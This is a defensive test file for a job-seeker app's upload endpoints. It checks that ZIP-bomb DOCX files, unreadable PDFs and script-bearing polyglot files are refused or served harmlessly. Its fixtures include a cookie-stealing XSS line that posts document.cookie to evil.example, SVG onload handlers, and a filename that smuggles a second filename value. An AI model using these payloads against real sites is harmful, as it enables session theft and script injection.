import { beforeAll, expect, test } from 'vitest';
import { ERRORS, type ErrorName } from '../../../contract/errors.ts';
import { searchJobs } from '../../../contract/search.ts';
import { uploadResume } from '../../../contract/jobseekers.ts';
import { createLicense } from '../../../contract/profile-calls.ts';
import { uploadAvatar, uploadCertificate } from '../../../contract/profile-files.ts';
import { getSyncableContent } from '../../../contract/resume-sync.ts';
import { WRITTEN } from '../../../tests/api/world.ts';
import { testApp, type TestApp } from '../../../tests/support/app.ts';
import type { Browser } from '../../../tests/support/browser.ts';
import { bombDocx, encryptedPdf, photoPdf, spinningPdf } from '../../../tests/support/hostile-files.ts';
import { harmIn, servedFile } from '../../../tests/support/served-files.ts';
import { docxOf, paragraph, pdfOf } from '../../../tests/support/resume-files.ts';
import { pdf as smallPdf } from '../../../tests/support/market.ts';

const SLOWEST_MS = 10_000;
let server: TestApp;
let ana: Browser;

beforeAll(async () => {
  server = await testApp();
  ana = await server.seeker();
});

const upload = (who: Browser, content: Uint8Array, filename: string) =>
  who.call(uploadResume, { query: { place: 'profile' }, file: new Blob([content as Uint8Array<ArrayBuffer>]), filename });

async function timed<T>(work: Promise<T>): Promise<{ answer: T; took: number }> {
  const began = performance.now();
  return { answer: await work, took: performance.now() - began };
}

const served = (who: Browser, url: string) => servedFile(server.app, who, url);

const MB = 1024 * 1024;
/** The number of other requests at the same time. */
const OTHERS = 10;
const unreadable = { spinning: spinningPdf, encrypted: encryptedPdf, photo: photoPdf };

test.each([
  ['a PDF that makes readers spin', 'spinning', 'tooLong'],
  ['an encrypted PDF', 'encrypted', 'encrypted'],
  ['a photo as PDF', 'photo', 'needsOcr'],
] as const)('%s is stored, and its reading ends within ten seconds with the reason while others are served', { timeout: 30_000 }, async (_, kind, outcome) => {
  const ben = await server.seeker();
  const visitor = await server.guest();
  const { data: resume } = await upload(ben, unreadable[kind](), `${kind}.pdf`);
  const reading = timed(ben.call(getSyncableContent, { params: { id: resume.id } }));
  for (let others = 0; others < OTHERS; others += 1) expect((await visitor.call(searchJobs, { query: {} })).status).toBe(200);
  const { answer, took } = await reading;
  expect(answer.data).toEqual({ outcome });
  expect(took).toBeLessThan(SLOWEST_MS);
});

test('a ZIP of 300 MB inside a Word document is refused before anything reads it', { timeout: 30_000 }, async () => {
  const { answer, took } = await timed(upload(ana, bombDocx(300 * MB), 'cv.docx'));
  expect(answer.refusal).toMatchObject({ code: ERRORS.fileTypeUnsupported.code, message: expect.stringMatching(/PDF/) });
  expect(took).toBeLessThan(SLOWEST_MS);
});

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const text = (content: string) => new TextEncoder().encode(content);
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const scripts: [string, string, Uint8Array][] = [
  ['an SVG with a script', 'proof.svg', text(svg)],
  ['an SVG that is called a picture', 'proof.png', text(svg)],
  ['a page', 'proof.html', text(`<!doctype html>${SCRIPT}`)],
  ['a page that is called a PDF', 'proof.pdf', text(`<!doctype html>${SCRIPT}`)],
  ['a page that goes on as a PDF', 'proof.pdf', joined(text(`<html>${SCRIPT}`), pdfOf([[40, 40, 'Ana']]))],
  ['a GIF that goes on as a script', 'proof.gif', text(`GIF89a/*${'\u0000'.repeat(20)}*/=1;alert(1)`)],
  ['a program', 'proof.pdf', joined(text('MZ'), pdfOf([[40, 40, 'Ana']]))],
  ['a Word document', 'proof.docx', docxOf(paragraph('Ana'))],
];

test.each(scripts)('%s is no certificate, no picture of oneself and no resume', async (name, filename, content) => {
  const { data: licence } = await ana.call(createLicense, { body: WRITTEN.license });
  const file = new Blob([content as Uint8Array<ArrayBuffer>], { type: 'image/png' });
  const refusals: [{ status: number; refusal: { code: number } }, ErrorName][] = [
    [await ana.call(uploadCertificate, { params: { id: licence.id }, file, filename }), 'certificateUnsupported'],
    [await ana.call(uploadAvatar, { file, filename }), 'imageUnsupported'],
  ];
  if (name !== 'a Word document') refusals.push([await upload(ana, content, filename), 'fileTypeUnsupported']);
  expect(refusals.map(([answer]) => answer.refusal.code)).toEqual(refusals.map(([, refused]) => ERRORS[refused].code));
  expect((await served(ana, `/api/jobseekers/license-certifications/${licence.id}/attachment`)).statusCode).toBe(404);
});

test.each([
  ['a PDF with a script in it', pdfOf([[40, 40, '<script>alert(1)</script>']]), 'evil.html', 'application/pdf'],
  ['a PDF that goes on as a page', joined(pdfOf([[40, 40, 'Ana']]), text(`\n${SCRIPT}\n%%EOF\n`)), 'evil.svg"; filename="x.html', 'application/pdf'],
])('%s is stored and given back as the PDF it is, to be kept and not to be opened', async (_, content, filename, type) => {
  const { data: licence } = await ana.call(createLicense, { body: WRITTEN.license });
  const { data: stored } = await ana.call(uploadCertificate, { params: { id: licence.id }, file: new Blob([content as Uint8Array<ArrayBuffer>]), filename });
  expect(stored.filename).toMatch(/\.pdf$/);
  const certificate = await served(ana, `/api/jobseekers/license-certifications/${licence.id}/attachment`);
  expect([harmIn(certificate), certificate.headers['content-type']]).toEqual([null, type]);
  expect(new Uint8Array(certificate.rawPayload)).toEqual(content);
});

test('what is given back of a resume is the same for whoever named it', async () => {
  const ben = await server.seeker();
  const { data: resume } = await ben.call(uploadResume, { query: { place: 'profile' }, file: smallPdf(), filename: 'cv.pdf.html' });
  expect(harmIn(await served(ben, `/api/jobseekers/resumes/${resume.id}/file`))).toBeNull();
});
